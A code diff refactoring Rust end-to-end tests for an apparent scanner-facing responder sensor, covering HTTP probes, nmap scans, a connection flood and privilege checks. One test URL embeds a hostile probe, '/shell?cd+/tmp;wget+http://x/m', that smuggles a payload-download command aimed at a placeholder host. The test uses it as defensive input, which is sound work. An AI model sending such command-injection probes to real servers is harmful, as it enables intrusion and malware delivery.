@@ -22,6 +22,24 @@ fn curl(lab: &Lab, src: &str, url: &str, agent: &str) -> (String, i32) {
     )
 }
 
+/// The two-namespace lab with the sensor answering as the responder: `respond` is its
+/// `--respond-config` file, `extra` more agent arguments.
+fn responder_lab(name: &str, respond: &str, extra: &[String]) -> Lab {
+    let mut lab = Lab::new(&e2e_dir(name)).expect("build the lab");
+    let rc = lab.dir.join("respond.toml");
+    std::fs::write(&rc, respond).unwrap();
+    lab.sensor_args = vec!["--respond-config".into(), rc.display().to_string()];
+    lab.sensor_args.extend_from_slice(extra);
+    lab.start_sensor("", 1.0)
+        .expect("start the responder sensor");
+    lab
+}
+
+/// The agent's responder process.
+fn responder_process(lab: &Lab) -> u32 {
+    child_of(lab.sensor_pid().expect("agent pid")).expect("the responder process")
+}
+
 fn counter(records: &[Value], name: &str) -> u64 {
     records
         .iter()
@@ -35,18 +53,13 @@ fn http_on_any_port_is_answered_and_recorded() {
     if privileged_or_skip().is_none() {
         return;
     }
-    let mut lab = Lab::new(&e2e_dir("respond-http")).expect("build the lab");
-    let rc = lab.dir.join("respond.toml");
-    std::fs::write(
-        &rc,
-        format!(
+    let mut lab = responder_lab(
+        "respond-http",
+        &format!(
             "addresses = [\"{SENSOR_V4}\", \"{DARK_V4}\", \"{SENSOR_V6}\"]\npass_ports = [22]\n"
         ),
-    )
-    .unwrap();
-    lab.sensor_args = vec!["--respond-config".into(), rc.display().to_string()];
-    lab.start_sensor("", 1.0)
-        .expect("start the responder sensor");
+        &[],
+    );
 
     let ua = "scanscope-test/1.0 (responder)";
     let url = format!("http://{SENSOR_V4}:47123/shell?cd+/tmp;wget+http://x/m");
@@ -134,26 +147,7 @@ fn http_on_any_port_is_answered_and_recorded() {
 /// Runs `args` in the scanner namespace within `secs` (the client's own failure is expected:
 /// every login is refused); its stdout and stderr.
 fn client(lab: &Lab, secs: u32, args: &[&str]) -> String {
-    let out = Command::new("timeout")
-        .args([
-            "-k",
-            "2",
-            &secs.to_string(),
-            "ip",
-            "netns",
-            "exec",
-            &lab.scanner_ns,
-        ])
-        .args(args)
-        .current_dir(&lab.dir)
-        .stdin(std::process::Stdio::null())
-        .output()
-        .expect("run the client");
-    format!(
-        "{}{}",
-        String::from_utf8_lossy(&out.stdout),
-        String::from_utf8_lossy(&out.stderr)
-    )
+    client_in(&lab.scanner_ns, &lab.dir, secs, args).expect("run the client")
 }
 
 /// The sessions of `protocol` on `port`.
@@ -883,18 +877,13 @@ fn nmap_version_scan_sees_plausible_servers_and_caps_hold() {
     if privileged_or_skip().is_none() {
         return;
     }
-    let mut lab = Lab::new(&e2e_dir("respond-nmap")).expect("build the lab");
-    let rc = lab.dir.join("respond.toml");
-    std::fs::write(
-        &rc,
-        format!(
+    let mut lab = responder_lab(
+        "respond-nmap",
+        &format!(
             "addresses = [\"{SENSOR_V4}\"]\npass_ports = [22]\nmax_per_source = 16\nmax_new_per_source = 400\nfirst_byte_secs = 3.0\n"
         ),
-    )
-    .unwrap();
-    lab.sensor_args = vec!["--respond-config".into(), rc.display().to_string()];
-    lab.start_sensor("", 1.0)
-        .expect("start the responder sensor");
+        &[],
+    );
     let ports = "21,23,25,80,110,143,2222,3306,5432,5900,6379,8080";
     let out = client(
         &lab,
@@ -976,21 +965,9 @@ print(len(socks))
 "#;
     let opened = client(&lab, 60, &["python3", "-c", flood, SRC_ZMAP, SENSOR_V4]);
     assert_eq!(opened.trim(), "600", "{opened}");
-    let agent = lab.sensor_pid().expect("agent pid");
-    let children = Command::new("pgrep")
-        .args(["-P", &agent.to_string()])
-        .output()
-        .expect("pgrep");
-    let child = String::from_utf8_lossy(&children.stdout)
-        .split_whitespace()
-        .next()
-        .expect("the responder process")
-        .to_string();
-    let status = std::fs::read_to_string(format!("/proc/{child}/status")).unwrap();
-    let hwm_kb: u64 = status
-        .lines()
-        .find_map(|l| l.strip_prefix("VmHWM:"))
-        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
+    let child = responder_process(&lab);
+    let hwm_kb: u64 = proc_status(child, "VmHWM")
+        .and_then(|v| v.trim_end_matches(" kB").parse().ok())
         .expect("VmHWM");
     assert!(hwm_kb < 64 * 1024, "responder peak memory {hwm_kb} kB");
     std::thread::sleep(std::time::Duration::from_millis(4500));
@@ -1114,25 +1091,9 @@ fn pass_through_ports_keep_the_hosts_own_sshd_and_the_responder_is_unprivileged(
 
     // The sessions are served by a child of the agent that is nobody, holds no capability,
     // and runs with no_new_privs under a seccomp filter (which refuses socket and connect).
-    let agent = lab.sensor_pid().expect("agent pid");
-    let out = Command::new("pgrep")
-        .args(["-P", &agent.to_string()])
-        .output()
-        .expect("pgrep");
-    let child: u32 = String::from_utf8_lossy(&out.stdout)
-        .split_whitespace()
-        .next()
-        .and_then(|p| p.parse().ok())
-        .expect("the responder process");
-    let status = std::fs::read_to_string(format!("/proc/{child}/status")).unwrap();
-    let field = |k: &str| {
-        status
-            .lines()
-            .find_map(|l| l.strip_prefix(&format!("{k}:")))
-            .map(|v| v.split_whitespace().collect::<Vec<_>>().join(" "))
-            .unwrap_or_default()
-    };
-    assert_eq!(field("Uid"), "65534 65534 65534 65534", "{status}");
+    let child = responder_process(&lab);
+    let field = |k: &str| proc_status(child, k).unwrap_or_default();
+    assert_eq!(field("Uid"), "65534 65534 65534 65534");
     assert_eq!(field("CapEff"), "0000000000000000");
     assert_eq!(field("CapPrm"), "0000000000000000");
     assert_eq!(field("NoNewPrivs"), "1");
